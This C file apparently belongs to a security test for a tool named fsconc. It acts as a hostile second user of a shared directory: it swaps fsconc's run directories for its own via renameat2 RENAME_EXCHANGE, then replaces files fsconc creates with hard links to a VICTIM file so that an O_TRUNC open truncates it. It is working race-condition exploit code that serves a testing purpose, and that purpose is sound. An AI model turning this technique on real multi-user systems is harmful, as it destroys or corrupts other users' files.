/* racer.c - the other user of a shared directory, for rundir-race.sh:
 * run as a user who owns DIR, it waits (inotify) for fsconc to make a run
 * directory there and at once exchanges it (renameat2 RENAME_EXCHANGE)
 * with a directory of its own; in its directories it replaces every file
 * fsconc makes with a hard link to VICTIM, for an O_TRUNC to find.
 *
 *   racer DIR VICTIM
 *
 * On stdout, one line per event: "ready" once it watches DIR, "swap
 * NAME" for each exchange, and "made NAME in DIR" for each file of
 * another user that appears in one of its directories (fsconc writing
 * where it must not).  It runs until killed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAXDIRS 4096

static int wds[MAXDIRS], fds[MAXDIRS];
static char names[MAXDIRS][32];
static int ndirs;

int main(int argc, char **argv)
{
	char buf[64 * 1024] __attribute__((aligned(8)));
	int in, top, dfd;
	unsigned n = 0;

	if (argc != 3) {
		fprintf(stderr, "usage: racer DIR VICTIM\n");
		return 2;
	}
	dfd = open(argv[1], O_RDONLY | O_DIRECTORY);
	in = inotify_init1(IN_CLOEXEC);
	if (dfd < 0 || in < 0) {
		perror(argv[1]);
		return 1;
	}
	top = inotify_add_watch(in, argv[1], IN_CREATE | IN_ONLYDIR);
	if (top < 0) {
		perror("inotify_add_watch");
		return 1;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (;;) {
		ssize_t len = read(in, buf, sizeof(buf));

		if (len < 0 && errno == EINTR)
			continue;
		if (len <= 0) {
			perror("read");
			return 1;
		}
		for (char *p = buf; p < buf + len;) {
			struct inotify_event *ev = (struct inotify_event *)p;
			char path[PATH_MAX], mine[32];
			struct stat st;
			int k;

			p += sizeof(*ev) + ev->len;
			if (!ev->len)
				continue;
			if (ev->wd == top) {
				if (!(ev->mask & IN_ISDIR) ||
				    strncmp(ev->name, ".fsconc-", 8) != 0 ||
				    ndirs >= MAXDIRS)
					continue;
				snprintf(mine, sizeof(mine), "racer.%u", n++);
				if (mkdirat(dfd, mine, 0755) < 0)
					continue;
				snprintf(path, sizeof(path), "%s/%s", argv[1],
					 mine);
				k = ndirs++;
				fds[k] = openat(dfd, mine, O_RDONLY |
						O_DIRECTORY);
				wds[k] = inotify_add_watch(in, path, IN_CREATE);
				snprintf(names[k], sizeof(names[k]), "%s", mine);
				if (renameat2(dfd, ev->name, dfd, mine,
					      RENAME_EXCHANGE) == 0)
					printf("swap %s\n", ev->name);
				continue;
			}
			for (k = 0; k < ndirs && wds[k] != ev->wd; k++)
				;
			if (k == ndirs || (ev->mask & IN_ISDIR) ||
			    fstatat(fds[k], ev->name, &st,
				    AT_SYMLINK_NOFOLLOW) < 0 ||
			    st.st_uid == geteuid())
				continue;
			printf("made %s in %s\n", ev->name, names[k]);
			if (ev->name[0] == 's' &&
			    unlinkat(fds[k], ev->name, 0) == 0)
				linkat(AT_FDCWD, argv[2], fds[k], ev->name, 0);
		}
	}
}
